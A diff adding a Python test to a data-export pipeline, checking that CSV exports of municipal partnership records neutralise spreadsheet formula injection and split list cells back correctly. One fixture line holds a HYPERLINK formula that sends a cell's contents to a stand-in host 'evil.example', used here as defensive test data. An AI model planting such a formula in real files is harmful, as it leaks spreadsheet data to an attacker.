@@ -12,11 +12,11 @@ import sys
 import jsonschema
 
 from pipeline.extract import Extractor
-from pipeline.records import PartnershipRecord, record_json_schema
+from pipeline.records import Article, PartnershipRecord, record_json_schema
 from pipeline.scraper.sources import Source
-from pipeline.store.exports import FORMATS, atlas_layout, export
+from pipeline.store.exports import FORMATS, FORMULA_TRIGGERS, atlas_layout, export
 from pipeline.store.ingest import run_ingestion
-from pipeline.store.repository import Store
+from pipeline.store.repository import ArticleToStore, Store
 from tests.store_fixtures import (  # noqa: F401 - fixtures
     FAST_FETCH,
     REPO,
@@ -88,3 +88,59 @@ def test_status_filter_exports_only_reviewed_partnerships(store: Store, site_sou
     lines = export(accepted, "jsonl").splitlines()
     assert lines and {json.loads(line)["record_id"] for line in lines} == {chosen.id}
     assert all(p.status in ("new", "flagged") for p in store.partnerships() if p.id != chosen.id)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Nantes")'
+SEMICOLON_NAME = "Niigata; Préfecture"
+
+
+def _split_list(cell: str) -> list[str]:
+    """A list cell back into its items: '; ' separates them, a backslash escapes the next character."""
+    items, current, characters = [], [], iter(cell)
+    for character in characters:
+        if character == "\\":
+            current.append(next(characters))
+        elif character == ";":
+            items.append("".join(current))
+            current = []
+            assert next(characters) == " "
+        else:
+            current.append(character)
+    return [*items, "".join(current)]
+
+
+def test_csv_cells_are_safe_to_open_in_a_spreadsheet_and_lists_split_back_exactly(store: Store, store_url: str, tmp_path) -> None:
+    item = json.loads((REPO / "fixtures" / "review" / "articles.jsonl").read_text(encoding="utf-8").splitlines()[2])
+    record = item["records"][0]
+    record["signatories"][0]["name"] = FORMULA
+    record["signatories"][1]["name"] = SEMICOLON_NAME
+    record["actors"] = [{"name": "+33 Coopération", "kind": "association"}, {"name": "@Nantes\\Japon", "kind": "association"}]
+    record["agreement_label"] = "-convention\tculturelle"
+    article = Article.model_validate(item["article"])
+    store.save_article(ArticleToStore(article, [PartnershipRecord.model_validate(record)], "fixture"), "hash")
+
+    for export_format in ("csv", "atlas-csv"):
+        path = tmp_path / f"{export_format}.csv"
+        subprocess.run(
+            [sys.executable, "-m", "pipeline", "export", "--format", export_format, "--excel", "--db", store_url, "-o", str(path)],
+            cwd=REPO, check=True,
+        )
+        data = path.read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
+        header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+        cells = dict(zip(header, row, strict=True))
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
+        if export_format == "csv":
+            assert _split_list(cells["signatories"].removeprefix("'")) == [f"{FORMULA} (FR, municipality)", f"{SEMICOLON_NAME} (JP, municipality)"]
+            assert cells["signatories"].startswith("'=")
+            assert cells["agreement_label"] == "'-convention\tculturelle"
+            assert _split_list(cells["actors"].removeprefix("'")) == ["+33 Coopération (association)", "@Nantes\\Japon (association)"]
+        else:
+            assert cells["collectivité française"] == "'" + FORMULA
+            assert _split_list(cells["collectivité partenaire"]) == [SEMICOLON_NAME]
+            assert _split_list(cells["acteurs associés"].removeprefix("'")) == ["+33 Coopération", "@Nantes\\Japon"]
+
+    refused = subprocess.run(
+        [sys.executable, "-m", "pipeline", "export", "--format", "jsonl", "--excel", "--db", store_url], cwd=REPO, capture_output=True, text=True
+    )
+    assert refused.returncode == 2 and "--excel is for the csv formats" in refused.stderr
